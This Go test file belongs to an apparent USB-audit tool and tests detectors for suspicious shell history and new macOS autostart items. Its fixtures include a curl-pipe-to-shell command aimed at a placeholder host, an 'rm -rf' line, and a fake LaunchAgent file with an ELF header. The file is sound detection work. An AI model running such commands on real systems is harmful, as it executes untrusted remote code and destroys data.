package rules

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/Hara602/usbAudit/internal/model"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
)

type fakeAux struct {
	history    []string
	historyErr error
	agents     []string
	agentsErr  error
	terminal   string
	termErr    error
	login      []string
	loginErr   error

	gotTokens []string
	gotSince  time.Time
}

func (f *fakeAux) ScanShellHistory(_ context.Context, tokens []string) ([]string, error) {
	f.gotTokens = tokens
	return f.history, f.historyErr
}

func (f *fakeAux) ScanLaunchAgents(_ context.Context, since time.Time) ([]string, error) {
	f.gotSince = since
	return f.agents, f.agentsErr
}

func (f *fakeAux) RecentTerminalActivity(context.Context, time.Time) (string, error) {
	return f.terminal, f.termErr
}

func (f *fakeAux) ListLoginItems(context.Context) ([]string, error) {
	return f.login, f.loginErr
}

func TestShellHistoryAlert(t *testing.T) {
	src := &fakeAux{history: []string{"curl http://x.example/p.sh | sh", "sudo rm -rf /tmp/x"}}
	c := NewAdvancedChecks(src, zap.NewNop())

	rep := c.Run(context.Background())

	require.Len(t, rep.Alerts, 1)
	assert.Equal(t, model.KindSuspiciousShellHistory, rep.Alerts[0].Kind)
	assert.Contains(t, rep.Alerts[0].Message, "curl http://x.example/p.sh | sh")
	assert.Contains(t, rep.Alerts[0].Message, "curl http://x.example/p.sh | sh; sudo rm -rf /tmp/x")
	assert.NotContains(t, rep.Alerts[0].Message, "\n")
	assert.Equal(t, SuspiciousCommands, src.gotTokens)
	assert.Empty(t, rep.Degraded)
}

func TestNoMatchesIsQuiet(t *testing.T) {
	c := NewAdvancedChecks(&fakeAux{}, zap.NewNop())

	rep := c.Run(context.Background())

	assert.Empty(t, rep.Alerts)
	assert.Empty(t, rep.Degraded)
}

func TestFailingCheckOnlyDegradesItself(t *testing.T) {
	src := &fakeAux{
		historyErr: errors.New("history unreadable"),
		termErr:    errors.New("log show failed"),
		login:      []string{"Dropbox"},
	}
	c := NewAdvancedChecks(src, zap.NewNop())

	rep := c.Run(context.Background())

	assert.Equal(t, []string{"shell history", "terminal activity"}, rep.Degraded)
	assert.Empty(t, rep.Alerts)
}

func TestAutostartWindowAndPromotion(t *testing.T) {
	dir := t.TempDir()
	evil := filepath.Join(dir, "com.update.helper.plist")
	payload := make([]byte, 128)
	copy(payload, []byte{0x7f, 'E', 'L', 'F', 2, 1, 1})
	require.NoError(t, os.WriteFile(evil, payload, 0o644))
	benign := filepath.Join(dir, "com.dropbox.plist")
	require.NoError(t, os.WriteFile(benign, []byte("<?xml version=\"1.0\"?><plist></plist>"), 0o644))

	now := time.Date(2026, 10, 16, 12, 0, 0, 0, time.UTC)
	src := &fakeAux{agents: []string{benign, evil}}
	c := NewAdvancedChecks(src, zap.NewNop())
	c.now = func() time.Time { return now }

	rep := c.Run(context.Background())

	assert.Equal(t, now.Add(-5*time.Minute), src.gotSince)
	require.Len(t, rep.Alerts, 1)
	assert.Equal(t, model.KindSuspiciousAutostart, rep.Alerts[0].Kind)
	assert.Contains(t, rep.Alerts[0].Message, evil)
}
